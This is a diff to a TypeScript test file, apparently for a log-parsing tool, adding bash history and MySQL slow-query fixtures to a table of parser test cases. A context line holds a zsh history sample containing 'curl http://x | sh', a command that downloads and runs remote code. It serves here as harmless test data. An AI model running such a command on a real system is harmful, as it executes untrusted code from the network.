@@ -404,6 +404,19 @@ const CASES: readonly ToolCase[] = [
     '79a59 BUCKET 192.0.2.3 - REST.GET.OBJECT photo.jpg 200',
   ],
   ['the history of zsh', 'log-lines', ': 1672927500:0;curl http://x | sh\n: 1672927501:0;ls\n', 'curl http://x | sh'],
+  [
+    'the history of bash, which has times on lines of their own',
+    'log-lines',
+    'history -c\n#1672927500\nssh -L 8080:10.0.0.1:80 web\n#1672927510\nfor a in b; do\n  c\ndone\n',
+    'ssh -L 8080:10.0.0.1:80 web',
+  ],
+  [
+    'the slow queries of MySQL',
+    'log-lines',
+    '/usr/sbin/mysqld, Version: 8.0.31 (MySQL Community Server - GPL). started with:\nTcp port: 3306  Unix socket: /x.sock\nTime                 Id Command    Argument\n# Time: 2023-01-05T14:05:00.123456Z\n# User@Host: app[app] @ web01 [10.0.0.5]  Id:    12\n# Query_time: 12.3  Rows_sent: 37000000\nSET timestamp=1672927500;\nSELECT * FROM customers;\n# Time: 2023-01-05T14:06:00.123456Z\n# Query_time: 1\nSELECT 1;\n',
+    'SELECT * FROM customers;',
+    '00.123456',
+  ],
   ['Squid', 'log-lines', '1672927500.123    200 10.0.0.1 TCP_MISS/200\n', '200 10.0.0.1 TCP_MISS/200', '00.123'],
   [
     'the audit log of Linux',
